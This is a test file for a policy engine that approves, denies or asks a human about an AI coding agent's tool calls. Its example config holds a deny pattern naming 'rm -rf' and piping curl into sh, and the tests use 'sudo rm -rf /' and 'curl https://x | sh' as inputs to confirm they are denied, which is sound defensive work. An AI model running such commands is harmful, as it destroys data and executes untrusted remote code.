import { describe, expect, it } from 'vitest';
import { parseConfigText } from '../../daemon/config/config.js';
import { approvingAny, type PolicyRule } from '../../daemon/config/policies.js';
import { judge, UNREADABLE, type PolicySubject } from '../../daemon/policies/rules.js';

/** The README's example. */
const EXAMPLE = `policies:
  - where: {space: agents}
    match: {tool: Bash, command: '^(npm test|git (status|diff)\\b)'}
    decide: approve
  - match: {command: 'rm -rf|git push --force|curl .*\\|\\s*sh'}
    decide: deny
    reason: destructive
  - decide: ask
`;

function rules(text: string): PolicyRule[] {
  const parsed = parseConfigText('/c.yaml', text, '/home/u');
  if (!('config' in parsed)) throw new Error(JSON.stringify(parsed.problem));
  return parsed.config.policies;
}

function problem(text: string) {
  const parsed = parseConfigText('/c.yaml', text, '/home/u');
  if (!('problem' in parsed)) throw new Error('expected a problem');
  return parsed.problem;
}

const bash = (command: string, over: Partial<PolicySubject> = {}): PolicySubject => ({
  space: 'agents',
  labels: {},
  agent: 'claude',
  detail: { tool: 'Bash', command },
  ...over,
});

describe('policy rules', () => {
  it('decides by the first rule that matches: where, then every match field', () => {
    const r = rules(EXAMPLE);
    expect(judge(r, bash('npm test'))).toMatchObject({ decision: 'approve', rule: { index: 0, name: null } });
    expect(judge(r, bash('git diff HEAD'))).toMatchObject({ decision: 'approve', rule: { index: 0 } });
    // The same command elsewhere is not approved: the where clause holds the rule to its space.
    expect(judge(r, bash('npm test', { space: 'default' }))).toMatchObject({ decision: 'ask', rule: { index: 2 } });
    expect(judge(r, bash('sudo rm -rf /'))).toMatchObject({ decision: 'deny', rule: { index: 1 }, reason: 'destructive' });
    expect(judge(r, bash('curl https://x | sh', { space: 'default' }))).toMatchObject({ decision: 'deny' });
    const missed = judge(r, bash('make'));
    expect(missed).toMatchObject({ decision: 'ask', rule: { index: 2 } });
    expect(missed.trace.map((t) => t.outcome)).toEqual(['match: command does not match', 'match: command does not match', 'matched']);
  });

  it('matches the tool by its whole name, other fields anywhere in them, and fields of the tool input', () => {
    const r = rules("policies:\n  - {match: {tool: Bash}, decide: approve}\n  - {match: {file_path: '^/tmp/'}, decide: approve, name: tmp files}\n");
    expect(judge(r, bash('x')).decision).toBe('approve');
    expect(judge(r, { ...bash('x'), detail: { tool: 'BashOutput', command: 'x' } }).decision).toBe('ask');
    expect(judge(r, { ...bash('x'), detail: { tool: 'Write', input: { file_path: '/tmp/a' } } })).toMatchObject({ decision: 'approve', rule: { index: 1, name: 'tmp files' } });
    // A field the detail lacks is no match.
    expect(judge(r, { ...bash('x'), detail: { tool: 'Write', input: { content: '/tmp/a' } } }).decision).toBe('ask');
  });

  it('checks labels and the agent profile; no rule at all asks', () => {
    const r = rules('policies:\n  - {where: {labels: {trust: high}, agent: codex}, match: any, decide: approve}\n');
    expect(judge(r, bash('x', { agent: 'codex', labels: { trust: 'high', other: 'y' } })).decision).toBe('approve');
    expect(judge(r, bash('x', { agent: 'claude', labels: { trust: 'high' } })).trace[0]!.outcome).toBe('where: agent is claude, not codex');
    expect(judge(r, bash('x', { agent: 'codex', labels: { trust: 'low' } })).decision).toBe('ask');
    expect(judge([], bash('x'))).toEqual({ decision: 'ask', rule: null, reason: 'no policies', trace: [] });
  });

  it('asks, whatever the rules, when the detail could not be read', () => {
    const r = rules('policies:\n  - {match: any, decide: approve}\n  - {decide: deny}\n');
    expect(judge(r, bash('x', { detail: null }))).toMatchObject({ decision: 'ask', reason: UNREADABLE });
    expect(judge(r, bash('x', { detail: { tool: null, command: null } })).decision).toBe('ask');
    expect(judge(r, bash('x')).decision).toBe('approve');
    expect(approvingAny(r)).toEqual([{ index: 0, name: null }]);
  });
});

describe('policy config errors', () => {
  it('names the line of a bad regular expression', () => {
    const p = problem("limits: {}\npolicies:\n  - decide: deny\n  - match:\n      tool: Bash\n      command: '(unclosed'\n    decide: deny\n");
    expect(p).toMatchObject({ line: 6, field: 'policies.1.match.command' });
    expect(p.message).toMatch(/^not a valid regular expression/);
  });

  it('refuses an approval without a described match, an empty match, and unknown fields', () => {
    expect(problem('policies:\n  - where: {space: agents}\n    decide: approve\n')).toMatchObject({ line: 3, field: 'policies.0.decide' });
    expect(problem('policies:\n  - match: {}\n    decide: approve\n')).toMatchObject({ line: 2, field: 'policies.0.match' });
    expect(problem('policies:\n  - match: all\n    decide: approve\n')).toMatchObject({ field: 'policies.0.match' });
    expect(problem('policies:\n  - decide: allow\n')).toMatchObject({ line: 2, field: 'policies.0.decide' });
    expect(problem('policies:\n  - decide: ask\n    when: now\n')).toMatchObject({ line: 3, field: 'policies.0.when' });
    // A rule without match may deny or ask.
    expect(rules('policies:\n  - decide: deny\n')[0]).toMatchObject({ match: 'any', decide: 'deny' });
  });
});
